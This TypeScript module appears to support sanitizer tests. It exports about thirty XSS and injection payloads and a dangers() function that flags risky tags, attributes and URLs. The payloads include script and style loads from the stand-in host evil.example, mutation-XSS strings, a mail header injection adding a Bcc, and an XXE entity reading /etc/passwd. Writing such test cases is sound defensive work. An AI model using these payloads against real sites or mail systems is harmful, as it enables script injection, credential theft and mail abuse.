import { Parser } from 'htmlparser2'

/** What people tried elsewhere, and what follows from how pages, feeds and mails are made here. */
export const payloads = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example></script>',
  "'><img src=x onerror=alert(1)>",
  '</title><svg/onload=alert(1)>',
  '</textarea><iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a> [x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1)) ![" onerror="alert(1)](/x.png) [a](/x "" onmouseover=alert(1) x="")',
  '<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example><base href=//evil.example>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form><meta http-equiv=refresh content=0;url=//evil.example>',
  '`<img src=x onerror=alert(1)>` ```html\n<script>alert(1)</script>\n```',
  '<https://evil.example/"onmouseover="alert(1)> https://evil.example/"><script>alert(1)</script>',
  '--><script>alert(1)</script><!-- ]]><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= 1 %>',
  // A sanitizer's and a browser's parser that disagree: what is text for one is a tag for the other.
  '<svg><style><img src=x onerror=alert(1)></style></svg><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<select><template><img src=x onerror=alert(1)></template></select><plaintext><xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//"> <![CDATA[<img src=x onerror=alert(1)>]]> <?xml-stylesheet href="javascript:alert(1)"?>',
  // Odd spellings of tags, attributes and schemes.
  '<ScRiPt/x>alert(1)</ScRiPt ><img/src="x"/onerror=alert(1)><img src=x onerror\u2028=alert(1)><script\u0000>alert(1)</script>',
  '[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](\u0001javascript:alert(1)) [d](vbscript:msgbox(1)) [e](//evil.example/%0aX: y)',
  '[a]: javascript:alert(1)\n[b]: <data:text/html,<script>alert(1)</script>>\n\n[a] [b] ![a] <javascript:alert(1)> <data:text/html,x>',
  '<a href="x" style="background:url(javascript:alert(1))" class="btn primary" id="main" target=_blank ping=//evil.example>x</a>',
  '<input name=password autofocus onfocus=alert(1)><video><source onerror=alert(1)></video><details open ontoggle=alert(1)>',
  // Out of an attribute, a script's JSON, an XML text, a CDATA section, a header, a line of a mail.
  '\' onclick=alert(1) " onclick=alert(1) ` onclick=alert(1) &quot; onclick=alert(1) &#34;onclick=alert(1)',
  '</script><script>alert(1)</script>{"@type":"x"}\\u003cscript\\u003e \u2028\u2029 </SCRIPT\n>',
  ']]></description><script>alert(1)</script><![CDATA[ <!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  'x\r\nBcc: evil@example.org\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  // What is not seen: direction, invisible letters, tags of the highlighter, mentions, tasks, tables, footnotes.
  '\u202Egnp.exe\u2066<img src=x onerror=alert(1)>\u2069 \u200b<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<mark><script>alert(1)</script></mark> **<b onmouseover=alert(1)>x</b>** | <img src=x onerror=alert(1)> |\n|---|\n| `</td><script>alert(1)</script>` |',
  '@<script>alert(1)</script> #<script>alert(1)</script> - [ ] <img src=x onerror=alert(1)> [^1]\n\n[^1]: <script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```\n~~~ javascript" onload="alert(1)\n</code></pre><script>alert(1)</script>\n~~~',
]

/** What in a page would run, load or send something that is not ours. */
export function dangers(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (/^(iframe|object|embed|base|style|math|frame|applet|marquee)$/.test(name)) found.push(`<${name}>`)
      if (
        name === 'script' &&
        !/^(module|importmap|application\/(ld\+)?json)$/.test(attributes['type'] ?? '')
      )
        found.push('<script>')
      if (name === 'script' && attributes['src'] !== undefined && !attributes['src'].startsWith('/assets/'))
        found.push(attributes['src'])
      if (name === 'meta' && attributes['http-equiv'] !== undefined) found.push('<meta http-equiv>')
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on/i.test(key) || key === 'srcdoc' || key === 'style' || key === 'formaction')
          found.push(`${name} ${key}`)
        const address = value.replace(/[\s\p{C}]/gu, '')
        if (
          /^(href|src|action|srcset|poster|data|xlink:href)$/.test(key) &&
          /^(javascript|vbscript|data:(?!image\/))/i.test(address)
        )
          found.push(`${name} ${key}=${value}`)
        if (name === 'form' && key === 'action' && !/^\/(?!\/)/.test(value)) found.push(`form to ${value}`)
      }
    },
  })
  parser.end(html)
  return found
}

/** Without what PostgreSQL stores in no text, for rows that a test writes itself. */
export const storable = (text: string) => text.replaceAll('\0', '')
